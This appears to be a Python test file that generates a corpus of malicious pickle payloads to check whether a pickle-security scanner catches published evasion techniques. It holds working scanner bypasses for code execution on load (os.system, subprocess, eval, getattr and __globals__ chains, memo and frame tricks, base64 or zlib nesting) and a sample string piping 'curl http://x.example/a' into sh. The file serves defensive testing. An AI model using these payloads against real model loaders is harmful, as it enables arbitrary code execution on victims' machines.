"""Pickles that act on loading, each by another way round: the published bypasses, by their number in the table."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator

from bartizan.artifacts.inspection import Verdict
from tests.artifacts.corpus.assemble import (
    ATTACK,
    BUILD,
    EMPTY_TUPLE,
    MARK,
    MARKER,
    MEMOIZE,
    NONE,
    POP,
    STOP,
    SYSTEM,
    TOUCH,
    built,
    call,
    framed,
    get,
    listed,
    made,
    mapped,
    name,
    number,
    pickled,
    put,
    raw,
    several,
    short,
    stack_name,
    text,
    words,
)

BAD, ODD = Verdict.MALICIOUS, Verdict.SUSPICIOUS
GETATTR = name("builtins", "getattr")
Case = tuple[str, Verdict, bytes]

# What is called with a text or nothing and acts: bypasses 10, 11, 13 to 17 of the table.
CALLED = words(
    "os.system posix.system nt.system subprocess.Popen subprocess.check_output subprocess.getoutput pty.spawn "
    "os.execvp os.popen builtins.eval builtins.exec builtins.compile __builtin__.eval __builtin__.execfile "
    "builtins.__import__ builtins.open io.open asyncio.unix_events._UnixSubprocessTransport._start "
    "asyncio.subprocess.create_subprocess_shell asyncio.run pip.main pip._internal.main runpy._run_code "
    "runpy.run_path timeit.timeit ensurepip._run_pip site.addsitedir zipimport.zipimporter "
    "code.InteractiveInterpreter bdb.Bdb.run pdb.run cProfile.run profile.run trace.Trace doctest.debug_script "
    "idlelib.run.Executive lib2to3.pgen2.pgen.ParserGenerator distutils.spawn.spawn distutils.file_util.write_file "
    "test.support.script_helper.assert_python_ok uuid._get_command_stdout imaplib.IMAP4_stream "
    "_osx_support._read_output _aix_support._read_cmd_output _pyrepl.pager.pipe_pager pydoc.pipepager "
    "hydra.utils.instantiate logging.FileHandler _io.FileIO io.FileIO numpy.memmap numpy.savetxt numpy.fromfile "
    "codecs.open linecache.getlines fileinput.input shutil.rmtree shutil.copy tempfile.mkstemp torch.save "
    "joblib.dump numpy.save urllib.request.urlopen urllib.urlopen urllib2.urlopen ssl.get_server_certificate "
    "smtplib.SMTP http.client.HTTPSConnection xmlrpc.client.ServerProxy pandas.read_csv "
    "huggingface_hub.hf_hub_download socket.create_connection requests.get ftplib.FTP torch.load torch.hub.load "
    "joblib.load pandas.read_pickle numpy.load cloudpickle.load dill.load ray.cloudpickle.load srsly.read_json "
    "statsmodels.iolib.smpickle.load_pickle keras.models.load_model skops.io.load torch.jit.load pickle.load "
    "torch.utils.collect_env.run numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef "
    "commands.getoutput torch._inductor.codecache.compile_file torch.utils.bottleneck.__main__.run_cprofile "
    "pandas.eval multiprocessing.util.spawnv_passfds threading.Thread concurrent.futures.ThreadPoolExecutor "
    "atexit.register weakref.finalize ctypes.CDLL marshal.loads sys.settrace types.CodeType webbrowser.open "
    "sqlite3.connect yaml.unsafe_load jsonpickle.decode dill._dill._eval_repr IPython.system "
)


# What imports a module or looks up a global by its name: bypass 13.
IMPORTING = words(
    "importlib.import_module pydoc.safeimport _frozen_importlib._gcd_import importlib._bootstrap._gcd_import "
    "unittest.mock._importer builtins.__import__ __builtin__.__import__ "
)
LOCATING = words(
    "pkgutil.resolve_name pydoc.locate werkzeug.utils.import_string django.utils.module_loading.import_string "
    "hydra.utils.get_method logging.config._resolve zope.dottedname.resolve.resolve "
    "kombu.utils.imports.symbol_by_name "
)


def named() -> Iterator[Case]:
    for symbol in (*IMPORTING, *LOCATING):
        module, _, last = symbol.rpartition(".")
        what = "subprocess" if symbol in IMPORTING else "os.system"
        yield f"named-{symbol}", BAD, pickled(call(name(module, last), text(what)))
        if symbol not in {"builtins.__import__", "__builtin__.__import__"}:
            yield f"named-{symbol}-other", ODD, pickled(call(name(module, last), text("acme.plugins")))
        yield f"named-{symbol}-computed", BAD, pickled(call(name(module, last), call(name("acme.config", "name"))))


def called() -> Iterator[Case]:
    for symbol in CALLED:
        module, _, last = symbol.rpartition(".")
        body = call(name(module, last), text(TOUCH))
        yield f"called-{symbol}", BAD, pickled(body)
    for symbol in ("fabric.api.local", "invoke.run", "pexpect.run", "sh.bash"):
        module, _, last = symbol.rpartition(".")
        yield f"called-{symbol}", BAD, pickled(call(name(module, last), text(TOUCH)))
    for symbol in (
        "platform.uname",
        "webbrowser.Chrome.x",
        "getpass.getuser",
        "random.seed",
        "time.sleep",
        "email.message_from_string",
    ):
        module, _, last = symbol.rpartition(".")
        expected = BAD if symbol.startswith("web") else ODD
        yield (
            f"called-{symbol}",
            BAD if symbol.startswith("getpass") else expected,
            pickled(call(name(module, last), text("x"))),
        )


def opcodes() -> Iterator[Case]:
    """Other opcodes than REDUCE, all protocols, and what is not called: bypasses 25 to 28."""
    system = name("os", "system")
    for protocol in range(6):
        yield (
            f"protocol-{protocol}",
            BAD,
            pickled(SYSTEM if protocol else f"cos\nsystem\n(S'{TOUCH}'\ntR".encode(), protocol),
        )
    yield (
        "method-of-class",
        BAD,
        pickled(call(stack_name(short("pathlib"), short("Path.write_text")), short(MARKER)), 4),
    )
    yield "inst", BAD, pickled(MARK + text(TOUCH) + b"ios\nsystem\n")
    yield "obj", BAD, pickled(MARK + system + text(TOUCH) + b"o")
    yield "obj-popped", BAD, pickled(MARK + system + text(TOUCH) + b"o" + POP + NONE)
    yield "newobj", BAD, pickled(made(name("subprocess", "Popen"), text(TOUCH)))
    yield (
        "newobj-ex",
        BAD,
        pickled(name("subprocess", "Popen") + several(text(TOUCH)) + mapped((text("shell"), b"\x88")) + b"\x92", 4),
    )
    yield "stack-global", BAD, pickled(call(stack_name(short("os"), short("system")), short(TOUCH)), 4)
    yield "global-only", BAD, pickled(system)
    yield "not-returned", BAD, pickled(SYSTEM + POP + listed(number(1)))
    yield "duplicated", BAD, pickled(system + b"2" + several(text(TOUCH)) + b"R")
    yield "escaped-unicode", BAD, pickled(b"V\\u006fs\nVs\\u0079stem\n\x93" + several(text(TOUCH)) + b"R", 4)
    yield "escaped-string", BAD, pickled(b"S'\\x6fs'\nS'sys\\164em'\n\x93" + several(text(TOUCH)) + b"R", 4)
    yield (
        "memo-names",
        BAD,
        pickled(
            short("os")
            + MEMOIZE
            + POP
            + short("system")
            + MEMOIZE
            + POP
            + get(0)
            + get(1)
            + b"\x93"
            + several(short(TOUCH))
            + b"R",
            4,
        ),
    )
    yield "memo-function", BAD, pickled(system + put(7) + POP + get(7) + several(text(TOUCH)) + b"R")
    yield (
        "memo-negative",
        BAD,
        pickled(text("os") + b"p-1\n" + POP + b"g-1\n" + text("system") + b"\x93" + several(text(TOUCH)) + b"R", 4),
    )
    yield "memo-missing-first", BAD, pickled(b"h\x63" + POP + SYSTEM)
    yield (
        "memo-after-pop",
        BAD,
        pickled(
            short("x")
            + MEMOIZE
            + POP
            + short("os")
            + MEMOIZE
            + short("system")
            + MEMOIZE
            + POP
            + POP
            + get(1)
            + get(2)
            + b"\x93"
            + several(short(TOUCH))
            + b"R",
            4,
        ),
    )
    yield (
        "memo-sparse",
        BAD,
        pickled(
            text("os")
            + b"r\xff\xff\xff\x7f"
            + POP
            + b"j\xff\xff\xff\x7f"
            + text("system")
            + b"\x93"
            + several(text(TOUCH))
            + b"R",
            4,
        ),
    )
    yield "type-confused", BAD, pickled(number(1) + number(2) + BUILD + POP + SYSTEM)
    yield "underflow", BAD, pickled(b"0" + SYSTEM)
    yield "extension-1", ODD, pickled(b"\x82\x05" + several(text("x")) + b"R")
    yield "extension-4", ODD, pickled(b"\x84\x05\x00\x00\x00")
    yield "persistent-line", ODD, pickled(b"Pevil-object\n", 0)
    yield "persistent", ODD, pickled(text("evil-object") + b"Q")
    yield "persistent-and-call", BAD, pickled(several(text("storage"), SYSTEM) + b"Q")
    yield "protocol-lies", BAD, b"\x80\x09" + SYSTEM + STOP
    yield "protocol-twice", BAD, pickled(b"\x80\x00" + SYSTEM + b"\x80\x04", 2)
    yield "reduce-then-build", BAD, pickled(built(SYSTEM, mapped((text("a"), number(1)))))
    yield "cyclic", BAD, pickled(b"]" + put(0) + get(0) + b"a" + SYSTEM + b"a")


def streams() -> Iterator[Case]:
    """Broken tails, several pickles, frames that lie, padding: bypasses 2, 24, 31."""
    yield "broken-tail", BAD, b"\x80\x02" + SYSTEM + b"\xff\xff\xff"
    yield "cut-off", BAD, ATTACK[:-1]
    yield "cut-in-text", BAD, b"\x80\x02" + SYSTEM + b"X\xff\x00\x00\x00abc"
    yield "second-pickle", BAD, pickled(mapped((text("a"), number(1)))) + ATTACK
    yield "second-pickle-protocol-0", BAD, pickled(number(1)) + f"cos\nsystem\n(S'{TOUCH}'\ntR.".encode()
    yield "hundredth-pickle", BAD, pickled(number(1)) * 99 + ATTACK
    yield "trailing-junk", BAD, ATTACK + bytes(range(256)) * 9
    yield "frame-too-long", BAD, pickled(framed(SYSTEM, 1 << 40), 4)
    yield "frame-too-short", BAD, pickled(framed(SYSTEM, 3), 4)
    yield "frame-in-frame", BAD, pickled(framed(b"N0" + framed(SYSTEM, 4), 60), 4)
    yield "frame-hides-stop", BAD, b"\x80\x04" + framed(b"N." + ATTACK, 2 + len(ATTACK))
    yield "frame-end-second", BAD, b"\x80\x04" + framed(b"N.\x00\x00") + ATTACK
    yield "padded-1m-opcodes", BAD, b"\x80\x02" + b"N0" * 600_000 + SYSTEM + STOP
    yield "padded-bytes", BAD, b"\x80\x02" + raw(b"\0" * 3_000_000) + b"0" + SYSTEM + STOP
    yield "padded-text", BAD, b"\x80\x02" + text("a" * 300_000) + b"0" + SYSTEM + STOP
    yield "expansion", BAD, b"\x80\x02" + b"]q\x00" + b"(h\x00h\x00eq\x00" * 60 + b"0" + SYSTEM + STOP
    yield "marks", BAD, b"\x80\x02" + MARK * 5000 + SYSTEM + b"1" * 5000 + b"N."
    yield "no-name-tail", BAD, f"(S'{TOUCH}'\nios\nsystem\n.".encode()


def indirection() -> Iterator[Case]:
    """Names and attributes reached by detours: bypasses 12, 13, 19 to 21, 32."""
    for module, dotted in (
        ("random", "_os.system"),
        ("logging", "os.system"),
        ("torch.serialization", "os.system"),
        ("numpy.lib._datasource", "os.system"),
        ("collections", "_sys.modules"),
        ("shutil", "os.popen"),
        ("glob", "os.system"),
        ("sklearn.utils", "os.system"),
        ("json.decoder", "__loader__.load_module"),
        ("collections", "__builtins__.eval"),
        ("datetime", "sys.modules"),
        ("collections", "OrderedDict.__init__.__globals__"),
        ("tempfile", "_shutil.rmtree"),
        ("pandas.io.common", "subprocess.run"),
    ):
        yield f"dotted-{module}-{dotted}", BAD, pickled(call(stack_name(short(module), short(dotted)), short(TOUCH)), 4)
    os_ = call(name("importlib", "import_module"), text("os"))
    yield "getattr-import", BAD, pickled(call(call(GETATTR, os_, text("system")), text(TOUCH)))
    yield (
        "getattr-module-in-module",
        BAD,
        pickled(call(call(GETATTR, name("random", "_os"), text("system")), text(TOUCH))),
    )
    yield (
        "getattr-dunders",
        BAD,
        pickled(
            call(GETATTR, call(GETATTR, name("collections", "OrderedDict"), text("__init__")), text("__globals__"))
        ),
    )
    yield "getattr-subclasses", BAD, pickled(call(call(GETATTR, name("builtins", "object"), text("__subclasses__"))))
    yield (
        "attrgetter",
        BAD,
        pickled(call(call(call(name("operator", "attrgetter"), text("system")), name("random", "_os")), text(TOUCH))),
    )
    yield (
        "methodcaller",
        BAD,
        pickled(call(call(name("operator", "methodcaller"), text("system"), text(TOUCH)), name("random", "_os"))),
    )
    yield "methodcaller-c", BAD, pickled(call(call(name("_operator", "methodcaller"), text("popen"), text(TOUCH)), os_))
    yield "partial", BAD, pickled(call(call(name("functools", "partial"), name("os", "system"), text(TOUCH))))
    yield (
        "partial-getattr",
        BAD,
        pickled(call(call(name("functools", "partial"), GETATTR, name("random", "_os")), text("system"))),
    )
    yield (
        "reduce-getattr",
        BAD,
        pickled(
            call(
                name("functools", "reduce"),
                GETATTR,
                listed(text("_os"), text("system")),
                call(name("importlib", "import_module"), text("random")),
            )
        ),
    )
    yield (
        "reduce-dots",
        BAD,
        pickled(call(name("functools", "reduce"), GETATTR, listed(name("logging", "os"), text("system")))),
    )
    yield "map", BAD, pickled(call(name("builtins", "map"), name("os", "system"), listed(text(TOUCH))))
    yield (
        "map-import",
        BAD,
        pickled(call(name("builtins", "map"), name("builtins", "__import__"), listed(text("antigravity")))),
    )
    yield "filter", BAD, pickled(call(name("builtins", "filter"), name("builtins", "eval"), listed(text("1"))))
    yield (
        "starmap",
        BAD,
        pickled(call(name("itertools", "starmap"), GETATTR, listed(several(name("random", "_os"), text("system"))))),
    )
    yield (
        "sorted-key",
        BAD,
        pickled(
            call(call(name("functools", "partial"), name("builtins", "sorted"), listed(text(TOUCH))))
            + POP
            + name("builtins", "sorted")
            + several(listed(text(TOUCH)))
            + mapped((text("key"), name("builtins", "exec")))
            + b"\x92",
            4,
        ),
    )
    yield "resolve-name", BAD, pickled(call(call(name("pkgutil", "resolve_name"), text("os:system")), text(TOUCH)))
    yield "locate", BAD, pickled(call(call(name("pydoc", "locate"), text("subprocess.check_output")), text(TOUCH)))
    yield (
        "import-joined",
        BAD,
        pickled(
            call(
                call(
                    GETATTR,
                    call(
                        name("builtins", "__import__"),
                        call(call(GETATTR, text(""), text("join")), listed(text("o"), text("s"))),
                    ),
                    text("system"),
                ),
                text(TOUCH),
            )
        ),
    )
    yield (
        "name-joined",
        BAD,
        pickled(
            stack_name(call(call(GETATTR, text(""), text("join")), listed(text("o"), text("s"))), text("system"))
            + several(text(TOUCH))
            + b"R",
            4,
        ),
    )
    yield (
        "name-from-numbers",
        BAD,
        pickled(
            stack_name(
                call(
                    name("_codecs", "decode"),
                    call(name("builtins", "bytes"), listed(number(111), number(115))),
                    text("latin1"),
                ),
                text("system"),
            )
            + several(text(TOUCH))
            + b"R",
            4,
        ),
    )
    yield (
        "name-from-base64",
        BAD,
        pickled(
            call(
                name("builtins", "__import__"),
                call(
                    name("builtins", "str"), call(name("base64", "b64decode"), raw(b"c3VicHJvY2Vzcw==")), text("utf8")
                ),
            )
        ),
    )
    yield (
        "name-reversed",
        BAD,
        pickled(
            call(
                name("builtins", "__import__"),
                call(call(GETATTR, text(""), text("join")), call(name("builtins", "reversed"), text("so"))),
            )
        ),
    )
    yield (
        "name-unknown",
        BAD,
        pickled(stack_name(call(name("acme.config", "Settings")), text("system")) + several(text(TOUCH)) + b"R", 4),
    )
    overwritten = built(
        name("numpy", "prod"), several(NONE, mapped((text("a"), text("os")), (text("b"), text("system"))))
    )
    yield (
        "build-overwrites",
        BAD,
        pickled(
            overwritten
            + POP
            + stack_name(name("numpy", "prod.a"), name("numpy", "prod.b"))
            + several(text(TOUCH))
            + b"R",
            4,
        ),
    )
    yield (
        "build-class",
        BAD,
        pickled(built(name("collections", "OrderedDict"), mapped((text("__reduce__"), name("builtins", "len"))))),
    )
    yield (
        "setattr",
        BAD,
        pickled(
            call(
                name("builtins", "setattr"),
                name("collections", "OrderedDict"),
                text("__init__"),
                name("builtins", "eval"),
            )
        ),
    )
    yield (
        "setitem-modules",
        BAD,
        pickled(name("sys", "modules") + text("json") + name("collections", "OrderedDict") + b"s"),
    )
    yield "append-path", BAD, pickled(name("sys", "path") + text("/tmp/evil") + b"a")
    builtins = call(GETATTR, name("numpy", "prod"), text("__globals__"))
    yield "globals-get", BAD, pickled(call(call(GETATTR, builtins, text("get")), text("__builtins__")))
    space = stack_name(short("numpy"), short("__builtins__"))
    yield "builtins-get", BAD, pickled(call(call(call(GETATTR, space, short("get")), short("eval")), short("1")), 4)
    yield "builtins-item", BAD, pickled(call(call(name("operator", "getitem"), space, short("exec")), short("1")), 4)
    yield "dict-get-joined", BAD, pickled(call(call(GETATTR, space, short("get")), call(name("acme.x", "name"))), 4)
    yield (
        "itemgetter",
        BAD,
        pickled(call(call(call(name("operator", "itemgetter"), short("eval")), space), short("1")), 4),
    )
    yield (
        "vars-module",
        BAD,
        pickled(
            call(name("operator", "getitem"), call(name("builtins", "vars"), name("random", "_os")), text("system"))
        ),
    )
    yield "callback-default", BAD, pickled(call(name("collections", "defaultdict"), name("os", "getcwd")))
    yield "callback-vectorize", BAD, pickled(call(call(name("numpy", "vectorize"), name("os", "system")), text(TOUCH)))
    yield (
        "state-method",
        BAD,
        pickled(built(made(name("acme.model", "Model")), mapped((text("predict"), name("os", "system"))))),
    )
    yield (
        "class-made",
        BAD,
        pickled(
            call(
                call(name("builtins", "type"), text("A"), EMPTY_TUPLE, mapped((text("__init__"), name("os", "system"))))
            )
        ),
    )
    yield "unknown-acting-name", ODD, pickled(call(name("acme.tools", "run_command"), text("ls")))
    yield (
        "unknown-with-command",
        ODD,
        pickled(call(name("acme.tools", "prepare"), text(f"curl http://x.example/a | sh; touch {MARKER}"))),
    )
    yield "unknown-with-code", ODD, pickled(call(name("acme.tools", "Prepared"), text("__import__('os').system('id')")))
    yield (
        "unknown-with-address",
        ODD,
        pickled(call(name("acme.tools", "fetch_weights"), text("https://x.example/w.bin"))),
    )
    yield "unknown-numpy-function", ODD, pickled(call(name("numpy.lib.utils", "byte_bounds"), text("x")))


def nested() -> Iterator[Case]:
    """Pickles within pickles: bypasses 17 and 18."""
    encoded = base64.b64encode(ATTACK).decode()
    for function in (
        "pickle.loads",
        "_pickle.loads",
        "dill.loads",
        "cloudpickle.loads",
        "torch.storage._load_from_bytes",
        "joblib.load",
    ):
        module, _, last = function.rpartition(".")
        yield f"nested-{function}", BAD, pickled(call(name(module, last), raw(ATTACK)))
    yield "nested-stream", BAD, pickled(call(name("torch", "load"), call(name("io", "BytesIO"), raw(ATTACK))))
    yield "nested-numpy", BAD, pickled(call(name("numpy", "load"), call(name("_io", "BytesIO"), raw(npy(ATTACK)))))
    yield "nested-raw", BAD, pickled(listed(raw(ATTACK)))
    yield "nested-text-0", BAD, pickled(listed(text(f"cos\nsystem\n(S'{TOUCH}'\ntR.")))
    yield "nested-base64", BAD, pickled(listed(text(encoded)))
    yield "nested-base64-bytes", BAD, pickled(mapped((text("blob"), raw(encoded.encode()))))
    yield "nested-hex", BAD, pickled(listed(text(ATTACK.hex())))
    yield "nested-hex-big", BAD, pickled(listed(text(ATTACK.hex() + pickled(raw(b"a" * 9000)).hex())))
    yield (
        "nested-base64-called",
        BAD,
        pickled(call(name("pickle", "loads"), call(name("base64", "b64decode"), text(encoded)))),
    )
    yield (
        "nested-zlib",
        BAD,
        pickled(call(name("pickle", "loads"), call(name("zlib", "decompress"), raw(zlib.compress(ATTACK))))),
    )
    yield "nested-zlib-data", BAD, pickled(listed(raw(zlib.compress(ATTACK))))
    yield (
        "nested-latin1",
        BAD,
        pickled(
            call(
                name("pickle", "loads"), call(name("_codecs", "encode"), text(ATTACK.decode("latin-1")), text("latin1"))
            )
        ),
    )
    yield "nested-long", BAD, pickled(raw(pickled(raw(b"a" * 200_000) + POP + SYSTEM)))
    yield "nested-twice", BAD, pickled(raw(pickled(raw(ATTACK))))
    yield "nested-path", BAD, pickled(call(name("pickle", "loads"), call(name("acme.io", "read"), text("a"))))
    code = call(name("types", "CodeType"), number(0), number(0))
    yield "code-called", BAD, pickled(call(call(name("types", "FunctionType"), code, mapped())))
    brought = call(
        name("cloudpickle.cloudpickle", "_make_function"),
        call(call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")), number(0)),
        NONE,
    )
    yield "cloudpickle-called", BAD, pickled(call(brought, number(1)))
    acting = call(
        call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")),
        several(text("__import__"), text("system")),
    )
    yield "cloudpickle-acts", ODD, pickled(call(name("cloudpickle.cloudpickle", "_make_function"), acting, NONE))
    yield "cloudpickle-imports", ODD, pickled(call(name("cloudpickle.cloudpickle", "subimport"), text("subprocess")))


def npy(content: bytes) -> bytes:
    """An array of objects in NumPy's own format."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def cases() -> Iterator[Case]:
    """All of them."""
    for family in (called, named, opcodes, streams, indirection, nested):
        yield from family()
